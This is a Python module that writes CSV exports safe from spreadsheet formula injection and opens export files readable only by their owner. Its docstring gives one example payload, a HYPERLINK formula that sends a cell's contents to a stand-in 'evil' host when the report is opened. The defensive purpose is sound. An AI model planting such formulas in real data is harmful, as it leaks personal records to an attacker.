"""CSV a person opens in a spreadsheet, safe from formula injection (ASVS 1.2.10, OWASP "CSV
Injection"), and files written for a person readable by their owner only.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula: a name typed as `=HYPERLINK("http://evil/?"&A1,"Click")` in a
record would run on the chief officer's machine when the report is opened. Such a cell is
prefixed with an apostrophe, which the spreadsheet shows as text and does not display.

Every CSV made for people goes through `writer` (access-log export, reports, indicators, audit
and inspection exports, import rejects). The exchange files (`safeguarding export`,
exchange/exporter.py) do not: they are data for machines, read back by `safeguarding import` and by
other forces' systems, and an apostrophe would corrupt them (docs/exchange-format.md says so).
"""

import csv
import os
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number ("-3", "+1.5", "-2e3") is shown as a number and runs nothing: left alone, so the
# reports' negative changes stay numbers in the spreadsheet.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it without evaluating it. Non-text values (numbers,
    dates, None) are returned as they are: the csv module writes them without a formula sign
    that could run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, target: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(target, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target: Any, **kwargs: Any) -> _SafeWriter:
    """csv.writer for a file a person will open: every cell neutralised."""
    return _SafeWriter(target, **kwargs)


def open_private(path: Path | str, mode: str = "w", **kwargs: Any) -> IO[Any]:
    """Open a file for writing, created readable and writable by its owner only (0600) whatever
    the umask, and made so if it already existed: exports hold personal data."""
    if not any(flag in mode for flag in "wax"):
        raise ValueError("open_private is for writing")
    flags = os.O_WRONLY | os.O_CREAT | (os.O_EXCL if "x" in mode else 0)
    flags |= os.O_APPEND if "a" in mode else (os.O_TRUNC if "w" in mode else 0)
    descriptor = os.open(path, flags, 0o600)
    try:
        os.fchmod(descriptor, 0o600)  # an existing file keeps its mode through os.open
        return os.fdopen(descriptor, mode, **kwargs)
    except BaseException:
        os.close(descriptor)
        raise
